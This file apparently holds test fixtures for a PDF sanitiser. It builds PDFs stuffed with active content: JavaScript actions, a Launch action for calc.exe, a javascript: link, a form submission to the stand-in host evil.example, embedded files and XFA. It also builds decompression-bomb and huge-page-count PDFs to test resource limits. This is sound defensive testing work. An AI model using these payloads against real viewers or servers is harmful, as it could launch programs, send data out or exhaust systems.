import { createDeflate } from 'node:zlib';
import {
  decodePDFRawStream,
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFName,
  PDFRawStream,
  PDFStream,
  PDFString,
  StandardFonts,
} from 'pdf-lib';

/** Text each hidden part of `activePdf` carries, to look for in what the server keeps. */
export const HIDDEN = {
  author: 'MARKER-AUTHOR-Ana',
  xmp: 'MARKER-XMP-metadata',
  script: 'MARKER-SCRIPT-alert',
  embedded: 'MARKER-EMBEDDED-bytes',
  attached: 'MARKER-ATTACHED-bytes',
  xfa: 'MARKER-XFA-form',
} as const;

/** A link's web address that `activePdf` holds and a clean copy keeps. */
export const KEPT_LINK = 'https://example.com/invoice';

/**
 * A one-page PDF carrying every kind of active or hidden content a viewer may run or open: an
 * opening script, document and page actions, scripts and files in the name trees, an outline
 * item with a script, links that run a script, launch a program, submit, import, open another
 * file or go to `javascript:`, a form field with actions, a file attachment annotation, an
 * AcroForm with XFA, document information and XMP metadata. Hidden parts hold `HIDDEN` texts,
 * their streams uncompressed, as a writer may leave them.
 */
export async function activePdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([300, 200]);
  page.drawText('Invoice 42', {
    x: 20,
    y: 150,
    font: await doc.embedFont(StandardFonts.Helvetica),
  });
  doc.setAuthor(HIDDEN.author);
  const { context, catalog } = doc;
  const script = (code: string) =>
    context.obj({ S: 'JavaScript', JS: PDFString.of(`app.alert("${HIDDEN.script}"); ${code}`) });
  const fileSpec = (name: string, content: string) =>
    context.register(
      context.obj({
        Type: 'Filespec',
        F: PDFString.of(name),
        EF: { F: context.register(context.stream(content, { Type: 'EmbeddedFile' })) },
      }),
    );
  catalog.set(
    PDFName.of('Metadata'),
    context.register(
      context.stream(`<x:xmpmeta>${HIDDEN.xmp}</x:xmpmeta>`, { Type: 'Metadata', Subtype: 'XML' }),
    ),
  );
  catalog.set(PDFName.of('OpenAction'), script('open'));
  catalog.set(PDFName.of('AA'), context.obj({ WC: script('close') }));
  catalog.set(
    PDFName.of('Names'),
    context.obj({
      JavaScript: { Names: [PDFString.of('init'), context.register(script('named'))] },
      EmbeddedFiles: {
        Names: [PDFString.of('secret.txt'), fileSpec('secret.txt', HIDDEN.embedded)],
      },
    }),
  );
  const outlines = context.nextRef();
  const item = context.register(
    context.obj({ Title: PDFString.of('Open'), Parent: outlines, A: script('outline') }),
  );
  context.assign(outlines, context.obj({ Type: 'Outlines', First: item, Last: item, Count: 1 }));
  catalog.set(PDFName.of('Outlines'), outlines);

  const rect = [10, 10, 60, 30];
  const link = (action: PDFDict) =>
    context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, A: action }));
  const field = context.register(
    context.obj({
      Type: 'Annot',
      Subtype: 'Widget',
      FT: 'Tx',
      T: PDFString.of('name'),
      Rect: rect,
      A: script('widget'),
      AA: { K: script('keystroke') },
    }),
  );
  const annotations = [
    link(script('link')),
    link(context.obj({ S: 'Launch', F: PDFString.of('calc.exe') })),
    link(context.obj({ S: 'URI', URI: PDFString.of('javascript:alert(1)') })),
    link(
      context.obj({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://evil.example/') } }),
    ),
    link(context.obj({ S: 'ImportData', F: PDFString.of('data.fdf') })),
    link(context.obj({ S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] })),
    // A safe address that chains a script after it: the address stays, the chain goes.
    link(context.obj({ S: 'URI', URI: PDFString.of(KEPT_LINK), Next: script('next') })),
    field,
    context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'FileAttachment',
        Rect: rect,
        FS: fileSpec('attached.txt', HIDDEN.attached),
      }),
    ),
  ];
  page.node.set(PDFName.of('Annots'), context.obj(annotations));
  page.node.set(PDFName.of('AA'), context.obj({ O: script('page') }));
  catalog.set(
    PDFName.of('AcroForm'),
    context.obj({
      Fields: [field],
      XFA: context.register(context.stream(`<xdp>${HIDDEN.xfa}</xdp>`)),
    }),
  );
  return Buffer.from(await doc.save());
}

/** What is in a PDF, every object it holds (reachable or not) written out, streams unpacked. */
export async function everythingIn(pdf: Buffer): Promise<{ text: string; dicts: PDFDict[] }> {
  const doc = await PDFDocument.load(pdf, { updateMetadata: false });
  const parts: string[] = [];
  const dicts: PDFDict[] = [];
  const walk = (object: unknown, seen: Set<unknown>): void => {
    if (seen.has(object)) return;
    seen.add(object);
    if (object instanceof PDFArray) for (const item of object.asArray()) walk(item, seen);
    const dict = object instanceof PDFStream ? object.dict : object;
    if (dict instanceof PDFDict) {
      dicts.push(dict);
      for (const [, value] of dict.entries()) walk(value, seen);
    }
  };
  const seen = new Set<unknown>();
  for (const [, object] of doc.context.enumerateIndirectObjects()) {
    parts.push(object.toString());
    if (object instanceof PDFRawStream) {
      try {
        parts.push(Buffer.from(decodePDFRawStream(object).decode()).toString('latin1'));
      } catch {
        // An image's own compression: nothing of ours is in it.
      }
    }
    walk(object, seen);
  }
  return { text: parts.join('\n'), dicts };
}

/** Zeros deflated, `megabytes` of them: a megabyte-sized stream that unpacks a thousand times. */
export async function deflatedZeros(megabytes: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  const megabyte = Buffer.alloc(1024 * 1024);
  for (let index = 0; index < megabytes; index += 1) {
    if (!deflate.write(megabyte)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await done;
  return Buffer.concat(chunks);
}

/**
 * A PDF whose one compressed stream is `bomb`: the object stream that holds its objects (which
 * a reader unpacks to read the file), or the drawing of its page (unpacked when shown).
 */
export function bombPdf(bomb: Buffer, where: 'objects' | 'page'): Buffer {
  const head = (number: number, dict: string) =>
    `${number} 0 obj\n<<${dict}/Filter/FlateDecode/Length ${bomb.length}>>\nstream\n`;
  const parts = [
    '%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n',
    '2 0 obj <</Type/Pages/Count 1/Kids[3 0 R]>> endobj\n',
    '3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R>> endobj\n',
    where === 'objects' ? head(4, '/Type/ObjStm/N 1/First 4') : head(4, ''),
  ];
  return Buffer.concat([
    Buffer.from(parts.join(''), 'latin1'),
    bomb,
    Buffer.from('\nendstream\nendobj\ntrailer <</Root 1 0 R/Size 5>>\n%%EOF\n', 'latin1'),
  ]);
}

/** A PDF of `count` empty pages in one flat page tree, written directly (fast at any count). */
export function manyPagesPdf(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, index) => `${index + 3} 0 R`).join(' ');
  const parts = [
    '%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n',
    `2 0 obj <</Type/Pages/Count ${count}/Kids[${kids}]>> endobj\n`,
  ];
  for (let index = 0; index < count; index += 1) {
    parts.push(`${index + 3} 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>> endobj\n`);
  }
  parts.push(`trailer <</Root 1 0 R/Size ${count + 3}>>\n%%EOF\n`);
  return Buffer.from(parts.join(''), 'latin1');
}
